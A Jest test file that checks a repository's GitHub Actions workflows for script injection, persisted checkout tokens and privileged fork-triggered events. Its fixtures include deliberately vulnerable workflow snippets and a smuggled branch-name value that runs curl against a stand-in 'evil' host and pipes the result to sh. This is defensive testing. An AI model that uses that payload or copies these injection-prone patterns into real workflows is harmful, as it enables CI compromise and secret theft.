import { describe, expect, it } from '@jest/globals';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { REPO_ROOT } from '@connector-alm/testing';
import {
  isSafeInScript,
  workflowSecurityProblems,
  type ParsedWorkflow,
  type SecurityCheckOptions,
} from './helpers/workflow-security.js';

/**
 * Every workflow of the repository, every example users copy and every action.yml, held to GitHub's
 * hardening advice for public repositories that take pull requests from forks (workflow-security.ts):
 * no pull request's text pasted into a script, no token left in .git/config, no privileged trigger.
 */

const files = [
  ...['.github/workflows', 'examples/workflows'].flatMap((dir) =>
    readdirSync(path.join(REPO_ROOT, dir))
      .filter((file) => /\.ya?ml$/.test(file))
      .map((file) => `${dir}/${file}`),
  ),
  ...readdirSync(path.join(REPO_ROOT, 'actions')).map((name) => `actions/${name}/action.yml`),
];

/** The jobs whose checkout keeps its credentials, and why: they push with git, on a maintainer's tag. */
const KEEP_CREDENTIALS: Record<string, Record<string, string>> = {
  '.github/workflows/release.yml': {
    release: 'pushes the major tag with the credentials checkout keeps',
    check:
      "scripts/release.mjs fetches main's history through the checkout's remote; runs only on a pushed tag",
  },
};

const read = (file: string): ParsedWorkflow =>
  parseYaml(readFileSync(path.join(REPO_ROOT, file), 'utf8')) as ParsedWorkflow;

describe.each(files)('%s', (file) => {
  it('pastes no untrusted value into a script, leaves no token in .git/config and runs on no privileged event', () => {
    expect(workflowSecurityProblems(read(file), { keepCredentials: KEEP_CREDENTIALS[file] })).toEqual([]);
  });
});

it('checks the workflows users copy and the repository’s own', () => {
  expect(files).toEqual(
    expect.arrayContaining([
      '.github/workflows/ci.yml',
      '.github/workflows/release.yml',
      '.github/workflows/connector-snapshot.yml',
      'examples/workflows/connector-pr-check.yml',
      'actions/validate-connector/action.yml',
    ]),
  );
});

const problemsOf = (yaml: string, options?: SecurityCheckOptions): string[] =>
  workflowSecurityProblems(parseYaml(yaml) as ParsedWorkflow, options);

describe('the check catches', () => {
  it.each([
    [
      'a branch name in a script (a branch can be named x";curl${IFS}evil|sh;#)',
      'on: pull_request\njobs:\n  j:\n    steps:\n      - run: echo "${{ github.head_ref }}"',
      "j: step '1': puts an expression into its script (${{ github.head_ref }}); pass the value through env",
    ],
    [
      'a pull request title, in a named step',
      'jobs:\n  j:\n    steps:\n      - name: Title\n        run: |\n          t="${{ github.event.pull_request.title }}"',
      "j: step 'Title': puts an expression into its script (${{ github.event.pull_request.title }}); pass the value through env",
    ],
    [
      'an output listing the connector folders a pull request changed',
      'jobs:\n  j:\n    steps:\n      - id: list\n        run: for c in ${{ steps.validate.outputs.connectors }}; do :; done',
      "j: step 'list': puts an expression into its script (${{ steps.validate.outputs.connectors }}); pass the value through env",
    ],
    [
      'a function around a safe value, which may give anything',
      "jobs:\n  j:\n    steps:\n      - run: cd ${{ format('{0}/{1}', runner.temp, github.head_ref) }}",
      "j: step '1': puts an expression into its script (${{ format('{0}/{1}', runner.temp, github.head_ref) }}); pass the value through env",
    ],
    [
      'a pull request body in github-script',
      "jobs:\n  j:\n    steps:\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: core.info('${{ github.event.pull_request.body }}')",
      "j: step 'actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea': puts an expression into its github-script script (${{ github.event.pull_request.body }}); pass the value through env",
    ],
    [
      'a secret in a script',
      'jobs:\n  j:\n    steps:\n      - run: curl -u "me=${{ secrets.TOKEN }}" https://example.com',
      "j: step '1': puts a secret into its script",
    ],
    [
      'a secret by index',
      "jobs:\n  j:\n    steps:\n      - run: echo ${{ secrets['TOKEN'] }}",
      "j: step '1': puts a secret into its script",
    ],
    [
      "an input in a composite action's script",
      'runs:\n  using: composite\n  steps:\n    - run: ls "${{ inputs.path }}"\n      shell: bash',
      "runs: step '1': puts an expression into its script (${{ inputs.path }}); pass the value through env",
    ],
    [
      'a checkout that keeps its token where the next step can read it',
      'jobs:\n  test:\n    steps:\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1\n      - run: npm ci',
      "test: step 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1': keeps the token in .git/config, where later steps can read it; set persist-credentials: false",
    ],
    [
      'pull_request_target',
      'on:\n  pull_request_target:\n    types: [opened]\njobs: {}',
      "on: pull_request_target runs with the base repository's write token and secrets for a fork's pull request; use pull_request",
    ],
    [
      'workflow_run in a list of events',
      'on: [push, workflow_run]\njobs: {}',
      "on: workflow_run runs with the base repository's write token and secrets for a fork's pull request; use pull_request",
    ],
  ])('%s', (_what, yaml, problem) => {
    expect(problemsOf(yaml)).toEqual([problem]);
  });

  it('a head_ref written into a run step of ci.yml, which the reusable-workflow check does not read', () => {
    const text = readFileSync(path.join(REPO_ROOT, '.github/workflows/ci.yml'), 'utf8');
    const edited = text.replace('- run: npm ci', '- run: echo "${{ github.head_ref }}" && npm ci');
    expect(edited).not.toBe(text);
    expect(workflowSecurityProblems(parseYaml(edited) as ParsedWorkflow)).toContain(
      "test: step '3': puts an expression into its script (${{ github.head_ref }}); pass the value through env",
    );
  });
});

describe('the check lets through', () => {
  it('values no pull request can choose, bare, in a script', () => {
    const yaml =
      'jobs:\n  j:\n    steps:\n      - run: |\n          mkdir -p "${{ runner.temp }}/out"\n          echo ${{ github.run_number }} ${{ github.event.pull_request.number }} ${{ 3 }} ${{ true }}';
    expect(problemsOf(yaml)).toEqual([]);
  });

  it('expressions outside scripts, where the runner passes them as values', () => {
    const yaml =
      'jobs:\n  j:\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$TITLE"\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1\n        with:\n          ref: ${{ github.head_ref }}\n          persist-credentials: false';
    expect(problemsOf(yaml)).toEqual([]);
  });

  it('a checkout whose job pushes with its credentials, when the job is named with its reason', () => {
    const yaml =
      'jobs:\n  release:\n    steps:\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1';
    expect(problemsOf(yaml, { keepCredentials: { release: 'pushes a tag' } })).toEqual([]);
  });

  it.each(['runner.temp', 'github.run_id', '42', 'false'])('%s', (expression) => {
    expect(isSafeInScript(expression)).toBe(true);
  });

  it.each(['github.head_ref', 'github.ref_name', 'inputs.path', 'env.X', 'runner.temp || github.head_ref'])(
    'but not %s',
    (expression) => {
      expect(isSafeInScript(expression)).toBe(false);
    },
  );
});
